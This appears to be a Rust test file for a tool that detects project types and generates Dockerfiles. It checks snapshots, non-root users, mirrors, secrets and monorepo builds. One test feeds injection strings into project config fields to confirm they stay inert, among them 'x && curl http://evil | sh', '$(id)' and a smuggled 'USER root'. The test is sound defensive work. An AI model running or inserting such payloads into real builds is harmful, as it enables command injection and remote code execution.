//! What is found in the shapes that projects have, and the Dockerfiles that are made for them.
//!
//! `shapes/*.txt` is the table: a name, the files (with what is in those that are read), and what is
//! to be found. `dockerfiles/*.txt` holds what is made for them. `HYTHE_BLESS=1` adds what is
//! missing to both and changes nothing that is there; to change it, take the line out first.

#[cfg(test)]
mod shapes;

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::path::PathBuf;

use hythe_core::detect::{
    BaseImages, BuildPlan, Mirror, SETTINGS_FILE, detect, settings_file, wanted,
};
use hythe_core::import::BuildWishes;
use hythe_core::names::{BuildArg, BuildArgValue, EnvName, RepositoryPath};
use hythe_core::source::BuildSettings;
use shapes::{Shape, blessing, read_table, sections, table_names};

/// The least that the table has.
const LEAST_SHAPES: usize = 100;

#[test]
fn every_shape_is_found_to_be_what_it_is() {
    let mut all = 0;
    let mut names = BTreeSet::new();
    let mut wrong = String::new();
    for table in table_names() {
        let mut shapes = read_table(&table);
        for shape in &mut shapes {
            all += 1;
            assert!(names.insert(shape.name.clone()), "{} is there twice", shape.name);
            let found = shape.say(&BuildSettings::default());
            if shape.expected.is_empty() && blessing() {
                shape.expected = found;
            } else if !shape.meets(&found) {
                let _ =
                    writeln!(wrong, "== {}\n{found}\nexpected:\n{}", shape.name, shape.expected);
            }
        }
        if blessing() {
            shapes::write_table(&table, &shapes);
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    assert!(all >= LEAST_SHAPES, "only {all} shapes");
}

#[test]
fn the_dockerfiles_are_as_they_were() {
    let mut wrong = String::new();
    for table in table_names() {
        let path = snapshots(&table);
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        let mut kept = sections(&text);
        for shape in read_table(&table) {
            let Some(made) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default())
            else {
                continue;
            };
            match kept.iter().find(|(name, _)| *name == shape.name) {
                Some((_, text)) if text.trim_end() == made.trim_end() => {}
                Some((_, text)) => {
                    let _ = writeln!(wrong, "== {}\n{made}\nit was:\n{text}", shape.name);
                }
                None if blessing() => kept.push((shape.name.clone(), made)),
                None => {
                    let _ = writeln!(wrong, "== {}\n{made}\nit is not kept", shape.name);
                }
            }
        }
        if blessing() {
            let text: Vec<String> =
                kept.iter().map(|(n, text)| format!("== {n}\n{}\n", text.trim_end())).collect();
            std::fs::write(&path, text.join("\n")).unwrap();
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn a_settings_file_that_says_what_was_found_changes_nothing() {
    let (settings, images) = (BuildSettings::default(), BaseImages::default());
    let mut in_force = 0;
    for shape in table_names().iter().flat_map(|table| read_table(table)) {
        if shape.has(SETTINGS_FILE) {
            continue;
        }
        let Ok(before) = shape.detect(&settings, &images) else { continue };
        let said = BuildWishes::default();
        let written = settings_file(
            &shape.listing(),
            &shape.texts(),
            &settings,
            &images,
            &said,
            &BTreeMap::new(),
        );
        let (text, _) = written.unwrap_or_else(|why| panic!("{}: {why}", shape.name));
        let after = shape.with(SETTINGS_FILE, &text).detect(&settings, &images).unwrap();
        assert_eq!(after.plan, before.plan, "{}: {text}", shape.name);
        in_force += usize::from(text.contains("\nport = "));
    }
    assert!(in_force >= LEAST_SHAPES, "only {in_force} say something that is in force");
}

#[test]
fn no_dockerfile_runs_as_root_or_needs_a_newer_frontend() {
    for shape in table_names().iter().flat_map(|table| read_table(table)) {
        let Some(text) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default()) else {
            continue;
        };
        let last = text.rsplit("\nFROM ").next().unwrap();
        assert!(last.contains("\nUSER ") && !last.contains("\nUSER root"), "{text}");
        assert!(last.contains("\nEXPOSE ") && last.contains("\nCMD [\""), "{text}");
        for line in text.lines() {
            let known =
                ["FROM ", "RUN ", "COPY ", "ENV ", "ARG ", "WORKDIR ", "USER ", "EXPOSE ", "CMD ["];
            let instruction = known.iter().any(|word| line.starts_with(word));
            assert!(line.is_empty() || instruction, "{}: {line:?}", shape.name);
            assert!(!line.ends_with('\\') && !line.contains("<<"), "{}: {line:?}", shape.name);
        }
    }
}

#[test]
fn a_mirror_serves_every_image() {
    let mirror = BaseImages::from(Some(Mirror::new("mirror.example/all").unwrap()));
    for shape in table_names().iter().flat_map(|table| read_table(table)) {
        let Some(text) = shape.dockerfile(&BuildSettings::default(), &mirror) else { continue };
        for image in text.lines().filter_map(|line| line.strip_prefix("FROM ")) {
            assert!(image.starts_with("mirror.example/all/"), "{}: {image}", shape.name);
        }
    }
}

#[test]
fn what_the_app_lets_its_build_read_gets_to_the_steps_that_are_its_own() {
    let shape = Shape::of(
        "package.json {\"scripts\":{\"build\":\"x\",\"start\":\"node a.js\"},\"dependencies\":{\"a\":\"1\"}}",
    );
    let mut settings = BuildSettings::default();
    settings.secrets.insert(EnvName::new("TOKEN").unwrap());
    settings.args.insert(BuildArg::new("VERSION").unwrap(), BuildArgValue::new("1").unwrap());
    let text = shape.dockerfile(&settings, &BaseImages::default()).unwrap();
    assert!(text.contains("\nARG VERSION\n"), "{text}");
    let build = "RUN --mount=type=secret,id=TOKEN export TOKEN=\"$(cat /run/secrets/TOKEN)\" && npm run build";
    assert!(text.contains(build), "{text}");
}

#[test]
fn a_manager_that_the_start_script_of_a_workspaces_app_calls_is_in_its_image() {
    let manager = |start: &str| {
        let shape = Shape::of(&format!(
            "package.json {{\"private\":true}}\npnpm-lock.yaml lockfileVersion: '9.0'\\n\n\
             pnpm-workspace.yaml packages:\\n  - apps/*\\n\n\
             apps/web/package.json {{\"scripts\":{{\"start\":\"{start}\",\"serve\":\"node a.js\"}}}}"
        ));
        let text = shape.dockerfile(&BuildSettings::default(), &BaseImages::default()).unwrap();
        let image = text.rsplit("\nFROM ").next().unwrap();
        assert!(image.contains("cd apps/web && "), "{text}");
        image.matches("npm install --global --force pnpm@").count()
    };
    assert_eq!(manager("pnpm run serve"), 1);
    assert_eq!(manager("node a.js"), 0);
}

#[test]
fn a_folder_of_a_larger_repository_is_looked_at_alone() {
    let shape = Shape::of(
        "package.json {\"workspaces\":[\"apps/*\"]}\napps/api/go.mod module x\napps/api/main.go\n\
         apps/api/Procfile web: app -p 3000",
    );
    let context = Some(RepositoryPath::new("apps/api").unwrap());
    let settings = BuildSettings { context, ..BuildSettings::default() };
    assert_eq!(shape.say(&settings), "=> go (go 1.25) | app -p 3000 | 3000");
}

/// A workspace of two apps, and what is found in the folder of one of them.
#[test]
fn a_part_of_a_workspace_is_built_with_all_of_it() {
    let workspace = |root: &str, more: &str| {
        Shape::of(&format!(
            "package.json {root}\npnpm-lock.yaml lockfileVersion: '9.0'\\n\n.nvmrc 22\n\
             pnpm-workspace.yaml packages:\\n  - apps/*\\n  - packages/*\\n\n\
             apps/web/package.json {{\"name\":\"@acme/web\",\"scripts\":{{\"build\":\"next build\",\
             \"start\":\"next start\"}},\"dependencies\":{{\"next\":\"15\",\"@acme/ui\":\"workspace:*\"}}}}\n\
             apps/api/package.json {{\"name\":\"api\",\"scripts\":{{\"start\":\"node a.js\"}},\
             \"dependencies\":{{\"express\":\"4\"}}}}\n\
             apps/page/package.json {{\"name\":\"page\",\"scripts\":{{\"build\":\"vite build\"}},\
             \"devDependencies\":{{\"vite\":\"6\"}}}}\napps/page/index.html\n\
             packages/ui/package.json {{\"name\":\"@acme/ui\"}}\n\
             tools/own/package.json {{\"scripts\":{{\"start\":\"node b.js\"}}}}\n{more}"
        ))
    };
    let images = BaseImages::default();
    let of = |folder: &str| {
        let context = Some(RepositoryPath::new(folder).unwrap());
        BuildSettings { context, ..BuildSettings::default() }
    };
    let plain = workspace("{\"private\":true}", "");
    let rows = [
        ("apps/web", "=> Next.js (node 22, pnpm) | cd apps/web && exec next start | 8080"),
        ("apps/api", "=> Express (node 22, pnpm) | cd apps/api && exec node a.js | 8080"),
        ("apps/page", "=> Vite (node 22, pnpm) | apps/page/dist/ | 8080"),
        // No pattern has it.
        ("tools/own", "=> node (node 24, npm) | node b.js | 8080"),
    ];
    for (folder, expected) in rows {
        assert_eq!(plain.say(&of(folder)), expected);
        let context = plain.detect(&of(folder), &images).unwrap().context;
        let alone = folder.starts_with("tools").then(|| RepositoryPath::new(folder).unwrap());
        assert_eq!(context, alone, "{folder}");
    }
    let text = plain.dockerfile(&of("apps/web"), &images).unwrap();
    assert!(text.contains("\nRUN pnpm --filter @acme/web... run build\n"), "{text}");
    assert!(text.contains("pnpm install --frozen-lockfile"), "{text}");
    let path = "ENV PATH=\"/app/apps/web/node_modules/.bin:/app/node_modules/.bin:$PATH\"";
    assert!(text.contains(path) && text.contains("\nENV NODE_ENV=\"production\"\n"), "{text}");

    let turbo = workspace("{\"devDependencies\":{\"turbo\":\"2\"}}", "turbo.json {}");
    let text = turbo.dockerfile(&of("apps/web"), &images).unwrap();
    let build = "\nRUN node_modules/.bin/turbo run build --filter=@acme/web\n";
    assert!(text.contains(build), "{text}");

    // One with a lock of its own stands for itself; what an app says counts in its folder.
    let locked = plain.with("apps/api/package-lock.json", "{}");
    assert_eq!(locked.say(&of("apps/api")), "=> Express (node 24, npm) | node a.js | 8080");
    let said =
        plain.with("apps/api/hythe.toml", "[build]\nbuild = \"make it\"\nstart = \"node c.js\"\n");
    let text = said.dockerfile(&of("apps/api"), &images).unwrap();
    assert!(text.contains("\nRUN [\"sh\", \"-c\", \"cd apps/api && make it\"]\n"), "{text}");
    assert!(text.contains("\nCMD [\"sh\", \"-c\", \"cd apps/api && exec node c.js\"]\n"), "{text}");
}

#[test]
fn a_crate_of_a_workspace_is_built_with_it() {
    let shape = Shape::of(
        "Cargo.toml [workspace]\\nmembers = [\"crates/*\"]\\nexclude = [\"crates/old\"]\\n\nCargo.lock\n\
         crates/api/Cargo.toml [package]\\nname = \"api\"\\nversion.workspace = true\\n[dependencies]\\n\
         axum.workspace = true\\nshared = { path = \"../shared\" }\\n\ncrates/api/src/main.rs\n\
         crates/shared/Cargo.toml [package]\\nname = \"shared\"\\n\ncrates/shared/src/lib.rs\n\
         crates/old/Cargo.toml [package]\\nname = \"old\"\\n\ncrates/old/src/main.rs",
    );
    let of = |folder: &str| {
        let context = Some(RepositoryPath::new(folder).unwrap());
        BuildSettings { context, ..BuildSettings::default() }
    };
    let found = shape.say(&of("crates/api"));
    assert_eq!(found, "=> Axum (rust 1, cargo) | cd crates/api && exec app | 8080");
    let detected = shape.detect(&of("crates/api"), &BaseImages::default()).unwrap();
    assert_eq!(detected.context, None);
    let text = shape.dockerfile(&of("crates/api"), &BaseImages::default()).unwrap();
    assert!(text.contains("cargo build --release --locked --package api --bin api && "), "{text}");
    assert_eq!(shape.say(&of("crates/old")), "=> rust (rust 1, cargo) | app | 8080");
}

#[test]
fn a_package_of_a_workspace_of_uv_is_installed_by_its_lock() {
    let shape = Shape::of(
        "pyproject.toml [tool.uv.workspace]\\nmembers = [\"apps/*\", \"libs/*\"]\\nexclude = [\"apps/old\"]\\n\n\
         uv.lock\n.python-version 3.12\n\
         apps/api/pyproject.toml [project]\\nname = \"acme-api\"\\nrequires-python = \">=3.11\"\\n\
         dependencies = [\"fastapi\", \"shared\"]\\n\n\
         apps/api/main.py from fastapi import FastAPI\\napp = FastAPI()\\n\n\
         apps/shop/pyproject.toml [project]\\nname = \"shop\"\\ndependencies = [\"django\"]\\n\
         [build-system]\\nrequires = [\"hatchling\"]\\n\n\
         apps/shop/manage.py (\"DJANGO_SETTINGS_MODULE\", \"site.settings\")\n\
         apps/shop/site/settings.py STATIC_ROOT = 1\n\
         apps/old/pyproject.toml [project]\\nname = \"old\"\\ndependencies = [\"flask\"]\\n\n\
         apps/old/app.py from flask import Flask\\napp = Flask(__name__)\\n\n\
         libs/shared/pyproject.toml [project]\\nname = \"shared\"\\n",
    );
    let of = |folder: &str| {
        let context = Some(RepositoryPath::new(folder).unwrap());
        BuildSettings { context, ..BuildSettings::default() }
    };
    let images = BaseImages::default();
    let found = shape.say(&of("apps/api"));
    let serve = "uvicorn main:app --host 0.0.0.0 --port ${PORT:-8080} --proxy-headers --forwarded-allow-ips '*'";
    assert_eq!(found, format!("=> FastAPI (python 3.12, uv) | cd apps/api && exec {serve} | 8080"));
    assert_eq!(shape.detect(&of("apps/api"), &images).unwrap().context, None);
    let text = shape.dockerfile(&of("apps/api"), &images).unwrap();
    let sync = "uv sync --locked --package acme-api --no-dev --no-editable --no-install-project\n";
    assert!(text.contains(sync), "{text}");
    assert!(text.find("COPY . .") < text.find("uv sync"), "{text}");
    let text = shape.dockerfile(&of("apps/shop"), &images).unwrap();
    assert!(text.contains("uv sync --locked --package shop --no-dev --no-editable\n"), "{text}");
    assert!(text.contains("cd apps/shop && python manage.py collectstatic --noinput\n"), "{text}");
    assert!(text.contains("cd apps/shop && python manage.py migrate --noinput && "), "{text}");
    // What is excluded stands for itself.
    let alone = shape.detect(&of("apps/old"), &images).unwrap().context;
    assert_eq!(alone, of("apps/old").context);
}

#[test]
fn a_module_of_maven_is_built_from_the_root_of_its_build() {
    let shape = Shape::of(
        "pom.xml <project><properties><java.version>17</java.version></properties><modules><module>services</module>\
         <module>core</module></modules></project>\nmvnw\n.mvn/wrapper/maven-wrapper.properties\n\
         services/pom.xml <project><modules><module>api</module></modules></project>\n\
         services/api/pom.xml <project><dependencies><groupId>org.springframework.boot</groupId></dependencies></project>\n\
         core/pom.xml <project/>\nalone/pom.xml <project/>",
    );
    let of = |folder: &str| {
        let context = Some(RepositoryPath::new(folder).unwrap());
        BuildSettings { context, ..BuildSettings::default() }
    };
    let images = BaseImages::default();
    assert_eq!(
        shape.say(&of("services/api")),
        "=> Spring Boot (java 17, maven) | exec java -XX:MaxRAMPercentage=75 -Dserver.port=${PORT:-8080} \
         -jar /app/app.jar | 8080"
    );
    assert_eq!(shape.detect(&of("services/api"), &images).unwrap().context, None);
    let text = shape.dockerfile(&of("services/api"), &images).unwrap();
    let build = "sh ./mvnw --batch-mode --no-transfer-progress -DskipTests --projects services/api --also-make package\n";
    assert!(text.contains(build), "{text}");
    assert!(text.contains("$(find services/api -path '*/target/*.jar' "), "{text}");
    // What a file of the module starts is named by where it was built; the image has it elsewhere.
    let said = shape.with("services/api/Procfile", "web: java -jar target/api.jar --debug");
    let text = said.dockerfile(&of("services/api"), &images).unwrap();
    let start = "\"exec java -XX:MaxRAMPercentage=75 -Dserver.port=${PORT:-8080} -jar /app/app.jar --debug\"";
    assert!(text.contains(start), "{text}");
    let alone = shape.detect(&of("alone"), &images).unwrap().context;
    assert_eq!(alone, of("alone").context);
}

#[test]
fn a_project_of_gradle_is_built_from_the_root_of_its_build() {
    let shape = Shape::of(
        "settings.gradle.kts rootProject.name = \"shop\"\\ninclude(\"app\", \"services:api\")\n\
         gradlew\ngradle/wrapper/gradle-wrapper.jar\n\
         gradle/libs.versions.toml [plugins]\\nspring-boot = { id = \"org.springframework.boot\", version = \"3\" }\n\
         build.gradle.kts java { toolchain { languageVersion = JavaLanguageVersion.of(17) } }\n\
         app/build.gradle.kts plugins { id(\"conventions\") }\\napplication {\\n  mainClass = \"a.Main\"\\n}\n\
         services/api/build.gradle.kts plugins { alias(libs.plugins.spring.boot) }\n\
         alone/build.gradle plugins { id 'application' }",
    );
    let of = |folder: &str| {
        let context = Some(RepositoryPath::new(folder).unwrap());
        BuildSettings { context, ..BuildSettings::default() }
    };
    let images = BaseImages::default();
    assert_eq!(shape.say(&of("app")), "=> java (java 17, gradle) | /app/bin/app | 8080");
    let text = shape.dockerfile(&of("app"), &images).unwrap();
    assert!(text.contains("sh ./gradlew --no-daemon :app:installDist\n"), "{text}");
    assert!(text.contains("$(find app -path '*/build/install/*' "), "{text}");
    assert_eq!(shape.detect(&of("app"), &images).unwrap().context, None);
    let found = shape.say(&of("services/api"));
    assert!(found.starts_with("=> Spring Boot (java 17, gradle) | "), "{found}");
    let text = shape.dockerfile(&of("services/api"), &images).unwrap();
    assert!(text.contains("sh ./gradlew --no-daemon :services:api:bootJar\n"), "{text}");
    let alone = shape.detect(&of("alone"), &images).unwrap().context;
    assert_eq!(alone, of("alone").context);
}

/// Nothing links what a part of a workspace depends on to its root.
#[test]
fn a_program_that_a_part_of_a_workspace_depends_on_is_found_in_its_folder() {
    let shape = Shape::of(
        "package.json {\"private\":true}\npnpm-lock.yaml lockfileVersion: '9.0'\\n\n\
         pnpm-workspace.yaml packages:\\n  - apps/*\\n\n\
         apps/api/package.json {\"name\":\"api\",\"scripts\":{\"start\":\"node a.js\"},\
         \"dependencies\":{\"playwright\":\"1.49\"}}",
    );
    let context = Some(RepositoryPath::new("apps/api").unwrap());
    let settings = BuildSettings { context, ..BuildSettings::default() };
    let text = shape.dockerfile(&settings, &BaseImages::default()).unwrap();
    let step = "\nRUN PATH=/app/apps/api/node_modules/.bin:/app/node_modules/.bin:$PATH playwright install chromium\n";
    assert!(text.contains(step), "{text}");
}

#[test]
fn pnpm_adds_an_adapter_also_at_the_root_of_a_workspace() {
    let shape = Shape::of(
        "package.json {\"scripts\":{\"build\":\"vite build\"},\"devDependencies\":{\"@sveltejs/kit\":\"2\",\
         \"@sveltejs/adapter-vercel\":\"5\"}}\npnpm-lock.yaml lockfileVersion: '9.0'\\n\n\
         svelte.config.js import adapter from '@sveltejs/adapter-vercel'",
    );
    let text = shape.dockerfile(&BuildSettings::default(), &BaseImages::default()).unwrap();
    let step = "\nRUN pnpm add --ignore-workspace-root-check @sveltejs/adapter-node@5\n";
    assert!(text.contains(step), "{text}");
}

#[test]
fn of_laravel_it_is_said_what_goes_with_a_container() {
    let shape = Shape::of(
        "composer.json {\"require\":{\"laravel/framework\":\"^12.0\"}}\nartisan\npublic/index.php",
    );
    let detected = shape.detect(&BuildSettings::default(), &BaseImages::default()).unwrap();
    for words in ["APP_KEY is made of HYTHE_SECRET", "its database is a file in the container"] {
        let said = detected.found.reasons.iter().any(|reason| reason.contains(words));
        assert!(said, "{words}: {:?}", detected.found);
    }
}

#[test]
fn a_key_that_rails_has_goes_before_a_secret_that_is_made() {
    let shape = Shape::of("Gemfile gem 'rails'\\n\nconfig/application.rb");
    let (settings, images) = (BuildSettings::default(), BaseImages::default());
    let made = shape.dockerfile(&settings, &images).unwrap();
    assert!(made.contains("HYTHE_SECRET"), "{made}");
    for (file, text) in [
        ("config/master.key", ""),
        ("config/credentials/production.key", ""),
        ("config/secrets.yml", "production:\n  secret_key_base: 0123abcd\n"),
    ] {
        let shape = shape.with(file, text);
        let made = shape.dockerfile(&settings, &images).unwrap();
        assert!(!made.contains("HYTHE_SECRET"), "{file}: {made}");
        let reasons = shape.detect(&settings, &images).unwrap().found.reasons;
        assert!(reasons.iter().any(|reason| reason.ends_with(file)), "{file}: {reasons:?}");
    }
}

#[test]
fn the_one_folder_with_an_app_is_built_without_being_named() {
    let shape = Shape::of(
        "README.md\nshop/go.mod module x\\n\nshop/main.go\nshop/Procfile web: app -p 3000\ndocs/index.md",
    );
    let settings = BuildSettings::default();
    assert_eq!(shape.say(&settings), "=> go (go 1.25) | app -p 3000 | 3000");
    let detected = shape.detect(&settings, &BaseImages::default()).unwrap();
    assert_eq!(detected.context, Some(RepositoryPath::new("shop").unwrap()));
    assert!(detected.found.reasons[0].starts_with("shop/ is the one"), "{:?}", detected.found);
    // Who says something at the root is asked which folder is meant.
    let said = shape.with("hythe.toml", "[build]\nstart = \"app\"\n");
    assert!(said.detect(&settings, &BaseImages::default()).is_err());
}

/// Shapes of samples that other platforms show themselves with.
#[test]
fn samples_of_other_platforms_start_as_they_are() {
    let rows = [
        (
            "composer.json {\"require\":{\"slim/slim\":\"4\"},\"require-dev\":{\"heroku/heroku-buildpack-php\":\"*\"}}\n\
             web/index.php\nProcfile web: vendor/bin/heroku-php-apache2 web/",
            "=> Slim (php 8.4, composer) | APACHE_DOCUMENT_ROOT=/app/web exec apache2-foreground | 8080",
        ),
        (
            "package.json {\"scripts\":{\"build\":\"node ace build\",\"start\":\"node bin/server.js\"},\
             \"dependencies\":{\"@adonisjs/core\":\"6\"},\"devDependencies\":{\"vite\":\"6\"}}\nbin/server.ts",
            "=> AdonisJS (node 24, npm) | cd build && exec node bin/server.js | 8080",
        ),
        (
            "deno.json {/* what it does */ \"tasks\":{\"start\":\"deno run -A main.ts\",},}\nmain.ts",
            "=> deno (deno 2) | deno task start | 8080",
        ),
    ];
    for (files, expected) in rows {
        assert_eq!(Shape::of(files).say(&BuildSettings::default()), expected, "{files}");
    }
    // Packages beside it are read when it is installed.
    let apart = "from flask import Flask\\napp = Flask(__name__)\\n";
    for (project, lock, install) in [
        ("[tool.uv.workspace]\\nmembers = [\"libs/*\"]", "uv.lock", "uv sync"),
        ("[tool.uv.sources]\\nlib = { path = \"libs/lib\" }", "uv.lock", "uv sync"),
        (
            "[tool.poetry.dependencies]\\nlib = { path = \"libs/lib\" }",
            "poetry.lock",
            "poetry install",
        ),
    ] {
        let shape = Shape::of(&format!("pyproject.toml {project}\n{lock}\napp.py {apart}"));
        let text = shape.dockerfile(&BuildSettings::default(), &BaseImages::default()).unwrap();
        let (all, install) = (text.find("\nCOPY . .\n"), text.find(install));
        assert!(all.is_some() && all < install, "{text}");
    }
}

/// What strangers write gets into no Dockerfile but as one command's text.
#[test]
fn a_hostile_text_stays_a_text() {
    let evil = [
        "x\\nUSER root",
        "x\\\\",
        "cat <<EOF",
        "--mount=type=bind,from=scratch x",
        "x # syntax=evil",
        "[\\\"a\\\"]",
        "x && curl http://evil | sh",
        "$(id)",
        "x\\u0000y",
        "x\\u2028USER root",
    ];
    for text in evil {
        for files in [
            format!(
                "package.json {{\"scripts\":{{\"start\":\"{text}\",\"build\":\"{text}\"}},\"main\":\"{text}\"}}"
            ),
            format!(
                "package.json {{\"packageManager\":\"pnpm@{text}\",\"scripts\":{{\"start\":\"node a\"}}}}"
            ),
            format!("railpack.json {{\"deploy\":{{\"startCommand\":\"{text}\"}}}}\nmain.py"),
            format!(
                "railpack.json {{\"steps\":{{\"build\":{{\"commands\":[\"{text}\"]}}}}}}\nmain.py"
            ),
            format!("railpack.json {{\"deploy\":{{\"variables\":{{\"A\":\"{text}\"}}}}}}\nmain.py"),
            format!("railpack.json {{\"deploy\":{{\"aptPackages\":[\"{text}\"]}}}}\nmain.py"),
            format!("nixpacks.toml [start]\\ncmd = \"{text}\"\nmain.py"),
            format!("hythe.toml [build]\\noutput = \"{text}\"\nmain.py"),
            format!("shard.yml targets:\\n  {text}:\\n    main: a.cr"),
            format!("Package.swift vapor/vapor .executableTarget(name: \"{text}\")"),
            format!("_config.yml plugins: [jekyll-{text}]\n_posts/a.md"),
            format!("hugo.toml\nnetlify.toml [build.environment]\\nHUGO_VERSION = \"{text}\""),
            format!("book.toml [build]\\nbuild-dir = \"{text}\"\nsrc/SUMMARY.md"),
            format!("mise.toml [tools]\\nnode = \"{text}\"\npackage.json {{}}\nindex.js"),
            format!("composer.json {{\"require\":{{\"ext-{text}\":\"*\"}}}}\nindex.php"),
            format!("Cargo.toml [package]\\nname = \"{text}\"\nsrc/main.rs"),
            format!("a.csproj <Project><AssemblyName>{text}</AssemblyName></Project>"),
            format!("mix.exs app: :{text}"),
            format!(
                "package.json {{\"devEngines\":{{\"packageManager\":{{\"name\":\"pnpm\",\"version\":\"{text}\"}}}},\"scripts\":{{\"start\":\"node a\"}}}}"
            ),
            format!("nixpacks.json {{\"start\":{{\"cmd\":\"{text}\"}}}}\nmain.py"),
            format!("Staticfile root: {text}\nindex.html"),
            format!(
                "railway.json {{\"deploy\":{{\"startCommand\":\"{text}\"}}}}\nrequirements.txt x"
            ),
            format!("CMakeLists.txt project(a)\\nadd_executable({text} a.cc)"),
            format!("gleam.toml name = \"{text}\"\nsrc/a.gleam"),
            format!(
                "manage.py (\"DJANGO_SETTINGS_MODULE\", \"{text}.settings\")\nrequirements.txt django"
            ),
            format!(
                "angular.json {{\"projects\":{{\"{text}\":{{}}}}}}\npackage.json {{\"dependencies\":{{\"@angular/core\":\"1\"}}}}"
            ),
        ] {
            let shape = Shape::of(&files);
            // Refused is as good.
            let Some(made) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default())
            else {
                continue;
            };
            assert!(!made.contains("USER root\n") && !made.contains("<<"), "{files}\n{made}");
            for line in made.lines() {
                assert!(
                    !line.ends_with('\\') && !line.starts_with("RUN --mount=type=bind"),
                    "{files}\n{made}"
                );
                // What is not of plain words alone stands in JSON, or in quotes.
                let data = line.contains("[\"sh\", \"-c\", ") || line.starts_with("ENV A=\"");
                assert!(data || !line.contains("curl http"), "{files}\n{line}");
            }
        }
    }
}

#[test]
fn only_few_files_are_asked_for_however_many_there_are() {
    let many: String = (0..5_000).map(|n| format!("a{n}/Cargo.toml\nb/c{n}/x.csproj\n")).collect();
    let shape = Shape::of(&format!("Cargo.toml\npackage.json\n{many}"));
    let asked = wanted(&shape.listing(), &BuildSettings::default());
    assert!(asked.len() <= hythe_core::detect::MOST_WANTED, "{}", asked.len());
    assert!(asked.iter().any(|file| file.path == "package.json"), "the root's come first");
}

#[test]
fn the_same_shape_gives_the_same_plan() {
    let shape = &read_table("node")[0];
    let (files, texts) = (shape.listing(), shape.texts());
    let of = || {
        let found = detect(&files, &texts, &BuildSettings::default(), &BaseImages::default());
        found.unwrap().plan
    };
    let BuildPlan::Preset { dockerfile } = of() else { panic!("no preset") };
    assert_eq!(of(), BuildPlan::Preset { dockerfile });
}

fn snapshots(table: &str) -> PathBuf {
    shapes::folder().join("dockerfiles").join(format!("{table}.txt"))
}
